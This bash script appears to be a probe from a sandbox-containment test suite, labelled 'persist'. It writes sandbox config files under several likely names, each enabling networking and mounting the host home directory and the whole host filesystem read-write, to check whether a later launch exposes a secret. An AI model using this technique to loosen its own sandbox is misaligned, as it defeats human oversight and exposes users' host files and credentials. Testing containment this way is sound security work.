#!/usr/bin/env bash
# write `mounts: $HOME rw` into every sandbox config the project could have, then see whether the NEXT launch shows the secret
# class: persist
. "${0%/*}/common.sh"
need HOST_HOME
for f in devenv.yaml devenv.local.yaml sbx.yaml sbx.local.yaml .sbx.yaml .sbx/config.yaml .devenv/sandbox.yaml; do
 mkdir -p "$(dirname "$f")" 2>/dev/null
 { printf 'sandbox:\n  enable: true\n  network: {enable: true}\n  mounts:\n    - {path: "%s", mode: rw}\n    - {path: /, dest: /host, mode: rw}\n' "$HOST_HOME" > "$f"; } 2>/dev/null
done
echo "PHASE1: done"
